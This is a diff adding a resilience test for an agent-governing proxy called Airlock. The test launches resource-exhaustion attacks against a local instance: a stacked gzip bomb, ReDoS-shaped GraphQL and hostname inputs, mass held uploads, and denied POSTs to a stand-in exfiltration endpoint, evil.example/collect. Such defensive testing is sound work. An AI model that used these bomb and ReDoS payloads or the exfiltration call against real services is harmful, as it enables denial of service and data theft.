@@ -1,0 +1,245 @@
+// One agent cannot freeze or crash Airlock for everyone. `airlock start` runs as a child process
+// with the default policy; a hostile agent throws at it, all at once:
+//   - ReDoS-shaped input: a GraphQL document of one 900 KB name (a backtracking pattern over it
+//     takes hours), hosts of thousands of dots;
+//   - a stream of denied requests with 1 MiB JSON bodies of small objects (each one's parsed
+//     description is ~10x its size: the studio's live buffer must not keep them);
+//   - a stacked gzip bomb (`gzip, gzip`, 1 GiB of zeros in a few KiB) from a host that got a
+//     credential, read slowly;
+//   - 48 held uploads of 1 MiB each;
+// while a neighbour agent's requests, its held request and the studio (REST and WebSocket) must
+// keep answering within a generous bound (availability, not speed: N = 60 s on a loaded 2-core
+// box), and the process must stay alive with its resident memory under 1.5 GiB (docs/approvals.md).
+import { spawn } from 'node:child_process';
+import crypto from 'node:crypto';
+import fs from 'node:fs';
+import http from 'node:http';
+import path from 'node:path';
+import zlib from 'node:zlib';
+import t, { type Test } from 'tap';
+import WebSocket from 'ws';
+import { AgentStore } from '../../engine/agents.ts';
+import { SecretStore } from '../../engine/secrets/store.ts';
+import { tempDir, upstreamCa, viaProxy, type Reply, type Upstream } from './helpers.ts';
+import { upstreamOn443 } from './loopback-443.ts';
+
+const BOUND_MS = 60_000;
+t.setTimeout(420_000);
+const RSS_BOUND = 1536 * 1024 * 1024;
+const MASTER = '7b'.repeat(32);
+process.env.AIRLOCK_MASTER_KEY ??= MASTER;
+const TOKEN = `ghp_hostile_canary_${crypto.randomBytes(8).toString('hex')}`;
+const cli = path.resolve(import.meta.dirname, '..', '..', 'bin', 'airlock.js');
+const rego = path.resolve(import.meta.dirname, '..', '..', 'rego');
+
+// A stacked bomb: 1 GiB of zeros, gzip, gzip → a few KiB.
+const inner = zlib.createGzip({ level: 9 });
+const innerParts: Buffer[] = [];
+inner.on('data', (d: Buffer) => innerParts.push(d));
+const zeros = Buffer.alloc(4 * 1024 * 1024);
+for (let i = 0; i < 256; i++) inner.write(zeros);
+await new Promise<void>((r) => inner.end(r));
+const bomb = zlib.gzipSync(Buffer.concat(innerParts), { level: 9 });
+
+const ca = await upstreamCa(t);
+const origin = await upstreamOn443(t, {
+  tlsCa: ca,
+  handler: (req, res) => {
+    if (req.url === '/repos/acme/bomb') {
+      res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip, gzip' });
+      res.end(bomb);
+      return;
+    }
+    res.setHeader('content-type', 'application/json');
+    res.end(JSON.stringify({ ok: true, url: req.url }));
+  },
+});
+
+if (!origin) {
+  t.pass('skipped: binding port 443 on a loopback address needs root');
+} else {
+  // One subtest holds the whole scenario (its setup awaits for a while; tap's root must not end meanwhile).
+  t.test('a hostile agent and its neighbour on one airlock start', async (t) => hostileScenario(t, origin));
+}
+
+async function hostileScenario(t: Test, origin: Upstream): Promise<void> {
+  const home = tempDir(t, 'airlock-hostile-');
+  const agents = await AgentStore.open(home);
+  const hostile = await agents.add('hostile');
+  const neighbour = await agents.add('neighbour');
+  const store = await SecretStore.open(home);
+  await store.set('github_token', TOKEN);
+  const auth = (name: string, token: string): string => `Basic ${Buffer.from(`${name}:${token}`).toString('base64')}`;
+  const H = auth('hostile', hostile.token);
+  const N = auth('neighbour', neighbour.token);
+
+  const child = spawn(process.execPath, [cli, 'start', '--home', home, '--policy', rego, '--proxy', '127.0.0.1:0', '--studio', '127.0.0.1:0', '--quiet',
+    '--resolve', `api.github.com=${origin.host}`, '--resolve', `evil.example=${origin.host}`, '--allow-private', `${origin.host}:443`, '--upstream-ca', ca.files.cert],
+  { stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, AIRLOCK_MASTER_KEY: process.env.AIRLOCK_MASTER_KEY } });
+  let out = '';
+  child.stdout.on('data', (d: Buffer) => (out += d.toString()));
+  child.stderr.on('data', (d: Buffer) => (out += d.toString()));
+  t.teardown(() => { if (child.exitCode === null) child.kill('SIGKILL'); });
+  const port = await new Promise<number>((resolve, reject) => {
+    const timer = setTimeout(() => reject(new Error(`airlock start did not come up: ${out}`)), 60_000);
+    const look = (): void => {
+      const m = /proxy on http:\/\/127\.0\.0\.1:(\d+)/.exec(out);
+      if (m) {
+        clearTimeout(timer);
+        resolve(Number(m[1]));
+      }
+    };
+    child.stdout.on('data', look);
+  });
+  const info = JSON.parse(fs.readFileSync(path.join(home, 'runtime.json'), 'utf8')) as { studio: string };
+  const studio = `http://${info.studio}`;
+
+  let maxRss = 0;
+  const rss = (): number => Number(/VmRSS:\s+(\d+) kB/.exec(fs.readFileSync(`/proc/${child.pid}/status`, 'utf8'))?.[1] ?? 0) * 1024;
+  const sampler = setInterval(() => { try { maxRss = Math.max(maxRss, rss()); } catch { /* exited */ } }, 200);
+  t.teardown(() => clearInterval(sampler));
+
+  /** A neighbour's request through the proxy, bounded by BOUND_MS (not viaProxy's 10 s: a loaded box may be slow). */
+  const ask = (url: string, opts: { method?: string; body?: string } = {}): Promise<Reply> => new Promise((resolve) => {
+    const body = opts.body === undefined ? undefined : Buffer.from(opts.body);
+    const req = http.request({ host: '127.0.0.1', port, method: opts.method ?? 'GET', path: url, agent: false, setHost: false,
+      headers: { host: new URL(url).host, 'proxy-authorization': N, ...(body ? { 'content-type': 'application/json', 'content-length': body.length } : {}) } });
+    req.setTimeout(BOUND_MS, () => req.destroy(new Error('no answer')));
+    req.on('error', (e) => resolve({ status: 0, headers: {}, body: e.message }));
+    req.on('response', (res) => {
+      const parts: Buffer[] = [];
+      res.on('data', (c: Buffer) => parts.push(c));
+      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(parts).toString() }));
+    });
+    req.end(body);
+  });
+
+  /** `p`, or a failure after BOUND_MS: "still answers within N seconds". */
+  const within = <T>(what: string, p: Promise<T>): Promise<T> => new Promise((resolve, reject) => {
+    const timer = setTimeout(() => reject(new Error(`${what}: no answer within ${BOUND_MS / 1000} s`)), BOUND_MS);
+    p.then((v) => { clearTimeout(timer); resolve(v); }, (e: unknown) => { clearTimeout(timer); reject(e as Error); });
+  });
+
+  // The studio: log in, open the WebSocket.
+  const studioToken = fs.readFileSync(path.join(home, 'studio-token'), 'utf8').trim();
+  const login = await fetch(`${studio}/api/login`, { method: 'POST', headers: { 'content-type': 'application/json', origin: studio }, body: JSON.stringify({ token: studioToken }) });
+  t.equal(login.status, 200, 'studio login');
+  const cookie = String(login.headers.get('set-cookie')).split(';')[0]!;
+  const csrf = ((await login.json()) as { csrf: string }).csrf;
+  const studioGet = async (p: string): Promise<number> => (await fetch(`${studio}${p}`, { headers: { cookie, origin: studio } })).status;
+  const ws = new WebSocket(`${studio.replace('http', 'ws')}/api/ws`, { headers: { origin: studio, cookie } });
+  const events: Array<{ type: string; data: unknown }> = [];
+  let wsBytes = 0;
+  ws.on('message', (m: Buffer) => {
+    wsBytes += m.length;
+    events.push(JSON.parse(m.toString()) as { type: string; data: unknown });
+  });
+  await within('studio WebSocket', new Promise((resolve, reject) => { ws.once('open', resolve); ws.once('error', reject); }));
+  t.teardown(() => ws.terminate());
+
+  // ─── the hostile agent ──────────────────────────────────────────────────────────────────────
+  const open = new Set<http.ClientRequest>();
+  const statuses = new Map<number, number>();
+  t.teardown(() => { for (const r of open) r.destroy(); });
+  /** A request the hostile agent fires and forgets (held ones stay open until the end). */
+  const fire = (url: string, opts: { method?: string; body?: Buffer; onResponse?: (res: http.IncomingMessage) => void } = {}): void => {
+    const req = http.request({ host: '127.0.0.1', port, method: opts.method ?? 'GET', path: url, agent: false, setHost: false,
+      headers: { host: new URL(url).host, 'proxy-authorization': H, ...(opts.body ? { 'content-type': 'application/json', 'content-length': opts.body.length } : {}) } });
+    open.add(req);
+    req.on('error', () => undefined);
+    req.on('close', () => open.delete(req));
+    req.on('response', (res) => {
+      statuses.set(res.statusCode ?? 0, (statuses.get(res.statusCode ?? 0) ?? 0) + 1);
+      if (opts.onResponse) opts.onResponse(res);
+      else res.resume();
+    });
+    req.end(opts.body);
+  };
+  const smallObjects = (n: number): Buffer => Buffer.from(JSON.stringify({ rows: Array.from({ length: n }, (_, i) => ({ i })) }));
+  const upload = smallObjects(85_000); // just under the 1 MiB capture cap: parsed whole
+  const redos = Buffer.from(JSON.stringify({ query: `mutation { ${'a'.repeat(900_000)} }` }));
+
+  let bombBytes = 0;
+  let bombEnded = '';
+  let bombStatus = 0;
+  let bombText = '';
+  const hostileDone = (async () => {
+    for (let i = 0; i < 3; i++) fire('https://api.github.com/graphql', { method: 'POST', body: redos });
+    fire(`https://a${'.'.repeat(3000)}b.example/`);
+    fire('https://api.github.com/repos/acme/bomb', {
+      onResponse: (res) => {
+        bombStatus = res.statusCode ?? 0;
+        res.pause(); // a slow reader: Airlock must not inflate ahead of it
+        setTimeout(() => {
+          res.on('data', (d: Buffer) => {
+            bombBytes += d.length;
+            if (bombStatus !== 200) bombText += d.toString();
+          });
+          res.on('end', () => (bombEnded = 'end'));
+          res.on('error', () => (bombEnded = 'error'));
+          res.on('aborted', () => (bombEnded = 'aborted'));
+          res.on('close', () => (bombEnded ||= 'close'));
+          res.resume();
+        }, 4000);
+      },
+    });
+    for (let i = 0; i < 48; i++) fire('https://api.github.com/repos/acme/app/issues', { method: 'POST', body: upload });
+    // Denied requests with large bodies, two at a time.
+    const denied = async (): Promise<void> => {
+      for (let i = 0; i < 35; i++) await viaProxy(port, 'https://evil.example/collect', { auth: H, method: 'POST', headers: { 'content-type': 'application/json' }, body: upload }).catch(() => undefined);
+    };
+    await Promise.all([denied(), denied()]);
+  })();
+
+  // ─── the neighbour, meanwhile ───────────────────────────────────────────────────────────────
+  t.test('the neighbour\'s requests and the studio keep answering', async (t) => {
+    for (let round = 0; round < 4; round++) {
+      await new Promise((r) => setTimeout(r, 1500));
+      let r = await within(`neighbour read #${round}`, ask('https://api.github.com/repos/acme/app'));
+      // On a machine this loaded (other test files run beside this one) a policy evaluation can
+      // exceed its 1 s budget and fail closed; that is a deny, not a stall: ask once more.
+      if (r.status === 403 && r.body.includes('fail_closed.timeout')) {
+        t.comment(`neighbour read #${round}: the evaluation timed out under load (fail closed); asking again`);
+        r = await within(`neighbour read #${round} (again)`, ask('https://api.github.com/repos/acme/app'));
+      }
+      t.equal(r.status, 200, `neighbour read #${round} answered${r.status === 200 ? "" : `: ${r.body.slice(0, 300)}`}`);
+      t.equal(await within('studio status', studioGet('/api/status')), 200, 'studio REST answers');
+      t.equal(await within('studio approvals', studioGet('/api/approvals')), 200, 'studio approvals list answers');
+    }
+  });
+
+  t.test('the neighbour\'s held request is approved in the studio and goes through', async (t) => {
+    const held = ask('https://api.github.com/repos/acme/app/issues', { method: 'POST', body: '{"title":"hello"}' });
+    const id = await within('the neighbour\'s approval appears on the WebSocket', (async () => {
+      for (;;) {
+        const e = events.find((x) => x.type === 'approval' && (x.data as { approval?: { agent?: string; status?: string } }).approval?.agent === 'neighbour');
+        if (e) return (e.data as { approval: { id: string } }).approval.id;
+        await new Promise((r) => setTimeout(r, 100));
+      }
+    })());
+    const approve = await within('approve over REST', fetch(`${studio}/api/approvals/${id}/approve`, { method: 'POST', headers: { cookie, origin: studio, 'x-airlock-csrf': csrf, 'content-type': 'application/json' }, body: '{}' }));
+    t.equal(approve.status, 200, 'approved');
+    t.equal((await within('the held request', held)).status, 200, 'the neighbour\'s held request went through');
+  });
+
+  t.test('after the storm: alive, bounded, and every attack met its limit', async (t) => {
+    await Promise.race([hostileDone, new Promise((r) => setTimeout(r, 4 * BOUND_MS))]);
+    await new Promise((r) => setTimeout(r, 5000)); // the bomb reader has had its turn
+    t.equal(child.exitCode, null, 'the process is alive');
+    maxRss = Math.max(maxRss, rss());
+    t.ok(maxRss < RSS_BOUND, `resident memory stayed under ${RSS_BOUND >> 20} MiB (peak ${Math.round(maxRss / 1048576)} MiB)`);
+    t.equal(bombStatus, 200, `the bomb's head was relayed (the credential was injected, the body is decoded to scrub it) ${bombText.slice(0, 300)}`);
+    t.ok(bombBytes < 8 * 1024 * 1024, `the bomb reader got only the start (${bombBytes} bytes), then the stream was cut (${bombEnded || 'still open'})`);
+    const r = await within('neighbour read', ask('https://api.github.com/repos/acme/app'));
+    t.equal(r.status, 200, 'the neighbour is still served');
+    const approvals = (await (await fetch(`${studio}/api/approvals?status=pending`, { headers: { cookie, origin: studio } })).json()) as { approvals: Array<{ agent: string }> };
+    const heldByHostile = approvals.approvals.filter((a) => a.agent === 'hostile').length;
+    t.ok(heldByHostile > 0 && heldByHostile < 30, `held uploads were capped by the held-data budget (${heldByHostile} pending for the hostile agent)`);
+    t.ok((statuses.get(429) ?? 0) >= 20, `the rest were refused at once (${statuses.get(429) ?? 0} × 429 approvals-backlog)`);
+    t.ok(wsBytes < 64 * 1024 * 1024, `the studio's WebSocket carried bounded records (${Math.round(wsBytes / 1024)} KiB)`);
+    const audit = fs.readFileSync(path.join(home, 'audit.jsonl'), 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as { url?: string; outcome: string; extra?: Record<string, unknown> });
+    const bombRecord = audit.find((a) => a.url?.endsWith('/repos/acme/bomb'));
+    t.match(bombRecord?.extra, { response_cut: /200x/ }, 'the cut bomb is in the audit log with its reason');
+    t.ok(audit.filter((a) => a.url === 'https://evil.example/collect' && a.outcome === 'denied').length >= 50, 'the denied stream was decided and audited');
+  });
+}
